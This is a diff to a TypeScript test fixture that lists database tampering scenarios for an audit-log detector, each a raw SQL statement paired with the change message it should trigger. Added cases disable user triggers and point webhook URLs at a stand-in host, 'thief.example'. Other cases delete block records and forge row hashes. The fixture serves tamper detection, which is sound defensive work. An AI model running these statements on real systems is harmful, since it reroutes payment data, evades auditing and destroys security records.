@@ -84,6 +84,16 @@ export const recordChanges: readonly Change[] = [
     /api_keys \S+ was added without a record/,
   ],
   [
+    'address of a webhook',
+    `ALTER TABLE webhook_endpoints DISABLE TRIGGER USER; UPDATE webhook_endpoints SET url = 'https://thief.example/'`,
+    /webhook_endpoints \S+ was changed/,
+  ],
+  [
+    'events of a webhook',
+    "UPDATE webhook_endpoints SET events = '{order.paid}'",
+    /webhook_endpoints\/state \S+ was changed/,
+  ],
+  [
     'recovery code added',
     "INSERT INTO user_recovery_codes SELECT user_id, '' FROM user_totp",
     /user_recovery_codes \S+ \S+ was added without a record/,
@@ -102,7 +112,11 @@ export const recordChanges: readonly Change[] = [
     /appeal_decisions \S+ 1 was changed/,
   ],
   ['credit of a recharge', 'UPDATE recharge_credits SET note = note || $$!$$', /recharge_credits \S+ was changed/],
-  ['reference of a payout', "UPDATE payouts SET payout_ref = 'SEPA 9'", /payouts \S+ was changed/],
+  [
+    'reference of a payout',
+    "UPDATE payouts SET payout_ref = 'SEPA 9' WHERE payout_ref LIKE 'SEPA%'",
+    /payouts \S+ was changed/,
+  ],
   ['proposal', 'UPDATE proposals SET amount = amount + 1', /proposals \S+ was changed/],
   [
     'decision on a proposal',
@@ -114,6 +128,15 @@ export const recordChanges: readonly Change[] = [
   ['rating of a merchant', 'UPDATE order_ratings SET stars = 1', /order_ratings \S+ was changed/],
   ['rate of an interest product', 'UPDATE interest_products SET apr = apr * 2', /interest_products \S+ was changed/],
   ['price of an offer', 'UPDATE offers SET price = price * 2', /offers\/terms \S+ was changed/],
+  ['range of an offer', 'UPDATE offers SET max_email = 1', /offers\/terms \S+ was changed/],
+  ['template of offers', "UPDATE offer_templates SET name = 'x'", /offer_templates \S+ was changed/],
+  [
+    'daily limit of an account',
+    "UPDATE merchant_accounts SET currency = 'EUR', daily_limit = 1",
+    /merchant_accounts\/state \S+ was changed/,
+  ],
+  ['reason of a block', "UPDATE taker_blocks SET reason = 'x'", /taker_blocks \S+ \S+ was changed/],
+  ['block taken out', 'DELETE FROM taker_blocks', /taker_blocks \S+ \S+ was removed without a record/],
   [
     'record of a row, with the row',
     "UPDATE settings SET value = '99'; UPDATE row_records SET hash = sha256('') WHERE part = 'settings'",
